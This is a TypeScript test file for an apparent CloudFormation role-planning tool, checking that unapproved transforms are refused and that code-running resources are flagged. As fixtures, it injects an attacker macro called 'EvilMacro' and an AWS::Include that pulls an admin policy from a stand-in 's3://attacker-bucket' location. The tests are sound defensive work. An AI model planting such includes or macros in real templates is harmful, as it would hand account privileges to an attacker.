// Issue 10, item 3: what the template makes CloudFormation run. A transform runs when a change
// set is created, so a pull request's plan would run it in every account: it is an error unless
// the config allows it by name, and an allowed one is a warning at the top of the plan.
// Resources that run code when applied are shown with a warning.
import { ACCOUNTS, MASTER, planComments, startScenario } from './scenario.ts';
import type { Scenario } from './scenario.ts';
import type { AwsEmulator } from '../support/aws-emulator/index.ts';
import type { RunResult } from '../support/harness/index.ts';
import { plain, positionOf, replaceIn, summaryLine } from './plan-helpers.ts';

let scenario: Scenario;
beforeEach(async () => {
  scenario = await startScenario();
  // The macro exists in every account, as it would for an attacker who deployed one earlier.
  scenario.aws.seed({
    accounts: Object.fromEntries(Object.values(ACCOUNTS).map((id) => [id, { macros: ['EvilMacro'] }])),
  });
});
afterEach(async () => scenario.close());

const fileErrors = (result: RunResult<AwsEmulator>) =>
  result.annotations
    .filter((a) => a.severity === 'error' && a.file !== undefined)
    .map((a) => [a.file, a.line, a.message.split('\n')[0]]);

const withTransform = (transform: string): void =>
  scenario.edit('roles.yml', (text) =>
    text.replace(
      "AWSTemplateFormatVersion: '2010-09-09'",
      `AWSTemplateFormatVersion: '2010-09-09'\nTransform: ${transform}`,
    ),
  );

test('a top-level Transform the config does not allow is an error at its line; no macro runs, nothing is applied', async () => {
  withTransform('EvilMacro');
  const line = positionOf(scenario, 'roles.yml', 'Transform: EvilMacro').line;

  const plan = await scenario.plan();
  expect(plan.exitCode).toBe(1);
  expect(fileErrors(plan)).toEqual([
    [
      'roles.yml',
      line,
      `The template runs the transform "EvilMacro", which rolemodel.yml does not allow: CloudFormation runs it when the plan's change set is created, in every account, and the access review cannot see what it adds.`,
    ],
  ]);
  expect(plan.annotations.find((a) => a.line === line)?.message).toContain('allow_transforms: [EvilMacro]');
  expect(plan.aws?.requestLog.filter((e) => e.service === 'cloudformation')).toEqual([]);
  expect(scenario.aws.transformRuns()).toEqual([]);

  const apply = await scenario.apply();
  expect(apply.exitCode).toBe(1);
  expect(scenario.aws.transformRuns()).toEqual([]);
  expect(Object.values(ACCOUNTS).flatMap((id) => scenario.aws.stacks(id))).toEqual([]);
});

test('an embedded Fn::Transform (AWS::Include) is refused the same way', async () => {
  replaceIn(
    scenario,
    'roles.yml',
    '      Description: RoleModel - read-only access to all services.\n',
    "      Description: RoleModel - read-only access to all services.\n      Policies:\n        Fn::Transform:\n          Name: AWS::Include\n          Parameters: { Location: 's3://attacker-bucket/admin-policy.yml' }\n",
  );
  const plan = await scenario.plan();
  expect(plan.exitCode).toBe(1);
  expect(fileErrors(plan)).toEqual([
    [
      'roles.yml',
      positionOf(scenario, 'roles.yml', 'Name: AWS::Include').line,
      expect.stringContaining('the transform "AWS::Include", which rolemodel.yml does not allow'),
    ],
  ]);
  expect(plan.aws?.requestLog).toEqual([]);
  expect(scenario.aws.transformRuns()).toEqual([]);
});

test('an allowed transform is planned with a warning on top, and applied with CAPABILITY_AUTO_EXPAND', async () => {
  replaceIn(
    scenario,
    'rolemodel.yml',
    'region: us-east-1',
    'region: us-east-1\nallow_transforms: [AWS::LanguageExtensions]',
  );
  withTransform('AWS::LanguageExtensions');
  // A nested stack in the expanded template: its execution needs CAPABILITY_AUTO_EXPAND.
  scenario.edit('roles.yml', (text) =>
    text.replace(
      '\nOutputs:',
      '\n  Shared:\n    Type: AWS::CloudFormation::Stack\n    Properties:\n      TemplateURL: https://s3.amazonaws.com/example/shared.yml\n\nOutputs:',
    ),
  );

  const plan = await scenario.plan();
  expect(plan.exitCode).toBe(0);
  const comment = plain(planComments(scenario)[0] ?? '');
  const head = comment.slice(0, comment.indexOf('<details>'));
  expect(summaryLine(comment)).toMatch(/^3 accounts change/);
  expect(head).toContain(
    '⚠️ The template runs the transform "AWS::LanguageExtensions" (allowed by `allow_transforms`): the access review cannot see what it adds to the stack.',
  );
  expect(plan.annotations).toContainEqual(
    expect.objectContaining({
      severity: 'warning',
      file: 'roles.yml',
      line: positionOf(scenario, 'roles.yml', 'Transform:').line,
    }),
  );
  expect(
    scenario.aws
      .transformRuns()
      .map((r) => [r.account, r.transform])
      .sort(),
  ).toEqual(
    Object.values(ACCOUNTS)
      .map((id) => [id, 'AWS::LanguageExtensions'])
      .sort(),
  );

  const apply = await scenario.apply();
  expect(apply.exitCode).toBe(0);
  for (const id of Object.values(ACCOUNTS)) {
    const stack = scenario.aws.stack('RoleModel', id);
    expect(stack?.status).toBe('CREATE_COMPLETE');
    expect(stack?.capabilities).toContain('CAPABILITY_AUTO_EXPAND');
  }
  expect(scenario.aws.iamState(MASTER).groups.length).toBe(12);
});

test('resources that run code when applied are flagged at the top of the plan and in their rows', async () => {
  scenario.edit('roles.yml', (text) =>
    text.replace(
      '\nOutputs:',
      [
        '',
        '  SetupFunction:',
        '    Type: AWS::Lambda::Function',
        '    Properties:',
        '      Runtime: python3.12',
        '      Handler: index.handler',
        '      Role: !GetAtt AdminRole.Arn',
        "      Code: { ZipFile: 'def handler(e, c): pass' }",
        '  Setup:',
        '    Type: Custom::Setup',
        '    Properties:',
        '      ServiceToken: !GetAtt SetupFunction.Arn',
        '',
        'Outputs:',
      ].join('\n'),
    ),
  );
  const plan = await scenario.plan();
  expect(plan.exitCode).toBe(0);
  const comment = plain(planComments(scenario)[0] ?? '');
  const head = comment.slice(0, comment.indexOf('<details>'));
  expect(head).toContain(
    '⚠️ **2 resources that run code when applied**: `SetupFunction` (`AWS::Lambda::Function`) in `prod`, `staging`, `cdn`, `Setup` (`Custom::Setup`) in `prod`, `staging`, `cdn`. CloudFormation runs that code with the permissions it is given; what it does is not part of this review.',
  );
  expect(comment).toContain('| + add | `Setup` | `Custom::Setup`<br>⚠️ runs code when applied |');
  expect(comment).toContain('| + add | `AdminRole` | `AWS::IAM::Role` |');
});
